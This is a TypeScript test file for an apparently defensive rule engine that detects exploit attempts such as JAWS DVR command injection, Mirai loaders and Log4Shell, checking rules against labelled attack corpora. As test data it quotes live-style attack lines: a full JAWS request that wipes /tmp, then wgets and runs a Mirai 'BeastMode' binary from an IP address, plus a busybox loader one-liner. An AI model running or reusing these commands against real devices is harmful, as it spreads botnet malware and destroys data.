import { existsSync, mkdirSync, readFileSync, writeFileSync } from 'node:fs'
import fc from 'fast-check'
import t from 'tap'
import type { Finding } from '../../../agent/behaviour/finding.ts'
import { ruleSchema } from '../../../agent/behaviour/rule.ts'
import { parseRule, readRules } from '../../../agent/behaviour/rule-files.ts'
import { Rules } from '../../../agent/behaviour/rules.ts'
import { RULES, run } from './sample.ts'

const CORPUS = new URL('../../../../shared/corpus/', import.meta.url)
const rules = new Rules(readRules(RULES))
const ids = (findings: readonly Finding[]) => findings.map(({ ruleId }) => ruleId)

t.test('every rule finds its samples and leaves the others', (t) => {
  t.ok(rules.rules.length >= 12)
  for (const rule of rules.rules) {
    for (const sample of rule.samples.positive)
      t.ok(ids(run(rules, rule, sample)).includes(rule.id), `${rule.id}: ${JSON.stringify(sample)}`)
    for (const sample of rule.samples.negative)
      t.notOk(
        ids(run(rules, rule, sample)).includes(rule.id),
        `not ${rule.id}: ${JSON.stringify(sample)}`,
      )
  }
  t.end()
})

t.test('cross law: no rule of one CVE finds the samples of another', (t) => {
  for (const rule of rules.rules)
    for (const sample of rule.samples.positive)
      for (const finding of run(rules, rule, sample)) {
        const other = rules.rules.find(({ id }) => id === finding.ruleId)
        if (rule.cves.length === 0 || other?.cves.length === 0) continue
        const family = rule.id.startsWith('log4shell') && finding.ruleId.startsWith('log4shell')
        t.ok(finding.ruleId === rule.id || family, `${rule.id}: ${finding.ruleId}`)
      }
  t.end()
})

t.test('the Jaws request, whole', (t) => {
  const target =
    '/shell?cd+/tmp;rm+-rf+*;wget+192.3.67.106/beastmode/b3astmode.arm7;chmod+777+/tmp/b3astmode.arm7;sh+/tmp/b3astmode.arm7+BeastMode.Rep.Jaws'
  const findings = rules.observe('http', {
    kind: 'request',
    verb: 'GET',
    target,
    version: 'HTTP/1.1',
    headers: { 'user-agent': 'Hello, world', host: '127.0.0.1:80' },
  })
  t.same(findings, [
    {
      action: 'exploit',
      severity: 9,
      ruleId: 'jaws-shell',
      ruleName: 'MVPower DVR (JAWS) shell command execution',
      techniques: ['T1190', 'T1059.004'],
      cves: ['CVE-2016-20016'],
      software: { name: 'Mirai', alias: ['BeastMode'] },
      indicators: [
        {
          type: 'url',
          url: 'http://192.3.67.106/beastmode/b3astmode.arm7',
          role: 'distribution',
          architecture: 'arm7',
        },
      ],
    },
  ])
  t.same(
    ids(rules.observe('http', { kind: 'request', verb: 'GET', target: target.toUpperCase() })),
    ['jaws-shell'],
  )
  t.same(
    ids(
      rules.observe('http', {
        kind: 'request',
        verb: 'GET',
        target: target.replaceAll('+', '%20'),
      }),
    ),
    ['jaws-shell'],
  )
  t.end()
})

t.test('a generic rule stands back for a specific one', (t) => {
  const text = 'cd /tmp; wget http://192.0.2.9/a; sh a; /bin/busybox ECCHI'
  t.same(ids(rules.observe('telnet', { kind: 'command', text })), ['mirai-loader'])
  t.same(ids(rules.observe('ftp', { kind: 'command', text })), ['dropper'], 'of another protocol')
  t.end()
})

t.test('nothing found is one shared array', (t) => {
  const nothing = rules.observe('telnet', { kind: 'command', text: 'ls' })
  t.same(nothing, [])
  t.equal(rules.observe('ssh', { kind: 'malformed', reason: 'x' }), nothing)
  t.equal(rules.payload('payload', ''), nothing)
  t.end()
})

const rule = (when: unknown, more: object = {}) =>
  ruleSchema.parse({
    id: 'x',
    title: 'x',
    action: 'exploit',
    severity: 5,
    techniques: ['T1190'],
    when,
    samples: {
      positive: [{ kind: 'command', text: 'x' }],
      negative: [{ kind: 'command', text: 'y' }],
    },
    ...more,
  })
const engine = (when: unknown, more?: object) =>
  new Rules({ rules: [rule(when, more)], families: [] })
const request = (target: string, body = '') =>
  ({ kind: 'request', verb: 'GET', target, body }) as const

t.test('all literals of a condition in one field; conditions in any', (t) => {
  const together = engine([{ in: ['any'], contains: { all: ['one', 'two'] } }])
  t.equal(together.observe('http', request('/one?TWO')).length, 1)
  t.equal(together.observe('http', request('/one', 'two')).length, 0, 'apart')
  const apart = engine([
    { in: ['request.target'], contains: { all: ['one'] } },
    { in: ['body'], contains: { any: ['two', 'three'] } },
  ])
  t.equal(apart.observe('http', request('/one', 'three')).length, 1)
  t.equal(apart.observe('http', request('/three', 'one')).length, 0, 'the wrong way round')
  t.equal(apart.observe('http', request('/one')).length, 0)
  const unless = engine([{ in: ['any'], contains: { any: ['one'] } }], {
    unless: [{ in: ['any'], contains: { any: ['two'] } }],
  })
  t.equal(unless.observe('http', request('/one')).length, 1)
  t.equal(unless.observe('http', request('/one', 'two')).length, 0, 'unless')
  t.end()
})

t.test('hits of one observation are gone in the next', (t) => {
  const both = engine([{ in: ['any'], contains: { all: ['one', 'two'] } }])
  t.equal(both.observe('telnet', { kind: 'command', text: 'one' }).length, 0)
  t.equal(both.observe('telnet', { kind: 'command', text: 'two' }).length, 0)
  t.equal(both.observe('telnet', { kind: 'command', text: 'one two' }).length, 1)
  t.end()
})

t.test('a bad rule is named', (t) => {
  t.throws(() => engine([{ in: ['body'], matches: 'x' }]), /rule x: no 'contains'/)
  t.throws(() => engine([{ in: ['nose'], contains: { any: ['xx'] } }]), /rule x: no field 'nose'/)
  t.throws(
    () => engine([{ in: ['body'], contains: { any: ['xx'] }, matches: '(?=x)' }]),
    /rule x: /,
  )
  t.throws(() => parseRule('id: y', 'x.yaml'))
  const directory = t.testdir({ 'bad.yaml': 'id: bad\ntitle: 7\n' })
  t.throws(() => readRules(directory), /bad\.yaml: /)
  const other = t.testdir({ 'families.yaml': '- name: ""\n' })
  t.throws(() => readRules(other), /families\.yaml: /)
  mkdirSync(`${t.testdirName}/wrong`)
  const whole = readFileSync(`${RULES}/gpon.yaml`, 'utf8')
  writeFileSync(`${t.testdirName}/wrong/name.yaml`, whole)
  t.throws(() => readRules(`${t.testdirName}/wrong`), /name\.yaml: .*its id is 'gpon'/)
  t.end()
})

t.test('no text makes it throw, however long', (t) => {
  const words = rules.rules.flatMap(({ when }) =>
    when.flatMap(({ contains }) => [...(contains?.all ?? []), ...(contains?.any ?? [])]),
  )
  const text = fc
    .array(fc.oneof(fc.constantFrom(...words, '%', '%2', '+', '${', '://', ' '), fc.string()), {
      maxLength: 40,
    })
    .map((parts) => parts.join(''))
  fc.assert(
    fc.property(text, text, (a, b) => {
      rules.observe('http', {
        kind: 'request',
        verb: a,
        target: b,
        body: a,
        headers: { [a]: b, soapaction: b },
      })
      rules.observe('redis', { kind: 'command', text: a })
      rules.payload('payload', a)
    }),
    { numRuns: 300 },
  )
  const long = '/shell?${jndi:'.repeat(100_000)
  const began = performance.now()
  rules.observe('http', {
    kind: 'request',
    verb: 'GET',
    target: long,
    body: long,
    headers: { x: long },
  })
  t.comment(`1.4 MB in three fields: ${(performance.now() - began).toFixed(1)} ms`)
  t.pass()
  t.end()
})

type Labelled = {
  line?: string
  body?: string
  headers?: Record<string, string>
  labels: string[]
  telnet?: string[]
}
const lower = (headers: Record<string, string> = {}) =>
  Object.fromEntries(
    Object.entries(headers).map(([name, value]) => [name.toLowerCase(), String(value)]),
  )
const lines = (name: string) => readFileSync(new URL(name, CORPUS), 'utf8').trim().split('\n')

t.test('corpus: labelled lines, published templates, ordinary clients', (t) => {
  if (!existsSync(CORPUS)) {
    t.comment('skipped: no ../shared/corpus')
    t.end()
    return
  }
  for (const line of lines('labelled/attack-lines.jsonl')) {
    const { line: head = '', body, headers, labels, telnet } = JSON.parse(line) as Labelled
    const [verb = '', ...rest] = head.split(' ')
    const target = rest.slice(0, -1).join(' ')
    const findings = telnet
      ? telnet.flatMap((text) => rules.observe('telnet', { kind: 'command', text }))
      : rules.observe('http', {
          kind: 'request',
          verb,
          target,
          headers: lower(headers),
          ...(body && { body }),
        })
    for (const cve of labels.filter((label) => label.startsWith('CVE-')))
      t.ok(
        findings.some(({ cves }) => cves.includes(cve)),
        `${cve} in ${head.slice(0, 60)}`,
      )
    if (telnet) t.ok(findings.length >= 4, 'the telnet loader')
  }
  const claimed = new Set(rules.rules.flatMap(({ cves }) => cves))
  const wanted = new Set<string>()
  const found = new Set<string>()
  for (const line of lines('vuln-templates/kev-requests.jsonl')) {
    const row = JSON.parse(line) as {
      cve: string
      method: string
      uri: string
      headers?: Record<string, string>
      body?: string | null
    }
    const findings = rules.observe('http', {
      kind: 'request',
      verb: row.method,
      target: row.uri,
      headers: lower(row.headers),
      ...(row.body && { body: row.body }),
    })
    if (claimed.has(row.cve)) wanted.add(row.cve)
    if (findings.some(({ cves }) => cves.includes(row.cve))) found.add(row.cve)
    for (const { ruleId, cves } of findings)
      if (cves.length > 0 && !cves.includes(row.cve) && !ruleId.startsWith('log4shell'))
        t.fail(`${ruleId} found in a request for ${row.cve}: ${row.uri}`)
  }
  t.comment(`${found.size} CVEs of published templates`)
  t.ok(found.size >= 4)
  t.same(
    [...wanted].filter((cve) => !found.has(cve)),
    [],
    'every CVE that a rule claims and the templates have',
  )

  let agents = 0
  for (const text of readFileSync(
    new URL('fingerprints/crawler-user-agents.json', CORPUS),
    'utf8',
  ).match(/"Mozilla[^"]*"/g) ?? []) {
    agents++
    const headers = { 'user-agent': text.slice(1, -1), accept: '*/*' }
    const findings = rules.observe('http', { kind: 'request', verb: 'GET', target: '/', headers })
    if (findings.length > 0) t.fail(`${findings[0]?.ruleId}: ${text}`)
  }
  t.comment(`${agents} user agents, no finding`)
  t.end()
})
